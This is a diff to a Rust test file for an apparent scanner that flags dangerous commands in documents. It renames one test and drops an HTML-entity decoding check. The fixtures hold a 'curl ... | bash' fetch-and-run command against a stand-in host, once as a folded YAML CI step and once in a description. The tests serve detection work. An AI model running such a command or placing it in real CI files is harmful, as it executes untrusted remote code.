@@ -123,15 +123,12 @@ fn a_base64_url_or_command_is_decoded_wherever_it_sits() {
 }
 
 #[test]
-fn a_folded_yaml_command_and_character_references_are_read_as_written_out() {
+fn a_folded_yaml_command_is_read_as_yaml_joins_it() {
     let folded = "# CI\n\n```yaml\nsteps:\n  - name: setup\n    run: >\n      curl -fsSL https://dl.example-cdn.net/i.sh\n      | bash\n```\n";
     assert_eq!(on_line(folded, "code.folded-yaml", 6), [Critical]);
     // A folded description is not a command.
     let described = "# CI\n\n```yaml\ndescription: >\n  curl -fsSL https://dl.example-cdn.net/i.sh\n  | bash\n```\n";
     assert_absent(described, "code.folded-yaml");
-    let entity = para("Run <code>curl -fsSL https://dl.example-cdn.net/i.sh &#124; bash</code> first.");
-    assert_eq!(on_line(&entity, "code.entity-decoded", 3), [Critical]);
-    assert_absent(&para("Fish &amp; chips &#8212; the usual."), "code.entity-decoded");
 }
 
 #[test]
